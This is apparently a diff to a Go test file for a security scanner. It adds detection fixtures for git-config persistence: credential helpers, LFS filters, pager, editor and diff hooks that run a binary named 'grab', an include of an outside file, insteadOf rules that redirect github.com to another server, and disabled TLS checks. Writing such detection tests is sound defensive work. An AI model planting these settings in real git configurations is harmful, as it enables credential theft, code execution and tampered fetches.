@@ -1,5 +1,34 @@
 package check_test
 
+import (
+	"cordon/internal/check"
+)
+
+// moreOf adds lines to a file that other rows add to as well.
+func moreOf(p, lines string) func(*tree) { return func(tr *tree) { tr.more(p, lines) } }
+
 // runtimeRows are what runs, what git and build tools start, and what was exchanged in
 // place: with payloads that carry no sign but their place.
-var runtimeRows = []row{}
+var runtimeRows = []row{
+	{"git_persistence settings of an account", "shell-profiles", check.Medium, "/home/runner/.config/git/config|credential.helper", false, plainFile("/home/runner/.config/git/config", "[credential]\n\thelper = \"!f() { /usr/local/sbin/grab; }; f\"\n")},
+	{"git_persistence filter of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|filter.lfs.smudge", false, moreOf("/home/ir/.gitconfig", "[filter \"lfs\"]\n\tsmudge = /usr/local/sbin/grab -- %f\n")},
+	{"git_persistence filter of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|filter.lfs.smudge", false, moreOf("/home/ir/src/.git/config", "[filter \"lfs\"]\n\tsmudge = /usr/local/sbin/grab -- %f\n")},
+	{"git_persistence process of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|filter.lfs.process", false, moreOf("/home/ir/.gitconfig", "[filter \"lfs\"]\n\tprocess = /usr/local/sbin/grab\n")},
+	{"git_persistence process of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|filter.lfs.process", false, moreOf("/home/ir/src/.git/config", "[filter \"lfs\"]\n\tprocess = /usr/local/sbin/grab\n")},
+	{"git_persistence include of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|include.path", false, moreOf("/home/ir/.gitconfig", "[include]\n\tpath = /opt/tools/gitinc\n")},
+	{"git_persistence include of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|include.path", false, moreOf("/home/ir/src/.git/config", "[include]\n\tpath = /opt/tools/gitinc\n")},
+	{"git_persistence another server of an account", "shell-profiles", check.High, "/home/ir/.gitconfig|https://github.com/ is fetched from", false, moreOf("/home/ir/.gitconfig", "[url \"http://198.51.100.7/\"]\n\tinsteadOf = https://github.com/\n")},
+	{"git_persistence another server of a repository", "developer-tools", check.High, "/home/ir/src/.git/config|https://github.com/ is fetched from", false, moreOf("/home/ir/src/.git/config", "[url \"http://198.51.100.7/\"]\n\tinsteadOf = https://github.com/\n")},
+	{"git_persistence another server by name of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|git@github.com: is fetched from", false, moreOf("/home/ir/.gitconfig", "[url \"https://git.example.net/\"]\n\tinsteadOf = git@github.com:\n")},
+	{"git_persistence another server by name of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|git@github.com: is fetched from", false, moreOf("/home/ir/src/.git/config", "[url \"https://git.example.net/\"]\n\tinsteadOf = git@github.com:\n")},
+	{"git_persistence diff of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|diff.external", false, moreOf("/home/ir/.gitconfig", "[diff]\n\texternal = /usr/local/sbin/grab\n")},
+	{"git_persistence diff of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|diff.external", false, moreOf("/home/ir/src/.git/config", "[diff]\n\texternal = /usr/local/sbin/grab\n")},
+	{"git_persistence pager without a sign of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|core.pager", false, moreOf("/home/ir/.gitconfig", "[core]\n\tpager = /usr/local/sbin/grab\n")},
+	{"git_persistence pager without a sign of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|core.pager", false, moreOf("/home/ir/src/.git/config", "[core]\n\tpager = /usr/local/sbin/grab\n")},
+	{"git_persistence editor of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|core.editor", false, moreOf("/home/ir/.gitconfig", "[core]\n\teditor = /usr/local/sbin/grab\n")},
+	{"git_persistence editor of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|core.editor", false, moreOf("/home/ir/src/.git/config", "[core]\n\teditor = /usr/local/sbin/grab\n")},
+	{"git_persistence on one line of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|sequence.editor", false, moreOf("/home/ir/.gitconfig", "[sequence] editor=/usr/local/sbin/grab #\n")},
+	{"git_persistence on one line of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|sequence.editor", false, moreOf("/home/ir/src/.git/config", "[sequence] editor=/usr/local/sbin/grab #\n")},
+	{"git_persistence no TLS of an account", "shell-profiles", check.Medium, "/home/ir/.gitconfig|http.sslverify", false, moreOf("/home/ir/.gitconfig", "[http]\n\tsslVerify = false\n")},
+	{"git_persistence no TLS of a repository", "developer-tools", check.Medium, "/home/ir/src/.git/config|http.sslverify", false, moreOf("/home/ir/src/.git/config", "[http]\n\tsslVerify = false\n")},
+}
